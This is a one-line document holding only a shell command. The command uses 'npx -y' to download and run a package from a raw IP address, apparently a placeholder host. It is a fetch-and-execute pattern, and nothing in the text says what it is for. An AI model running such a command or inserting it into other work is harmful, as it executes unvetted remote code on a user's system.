npx -y http://192.0.2.1/x.tgz
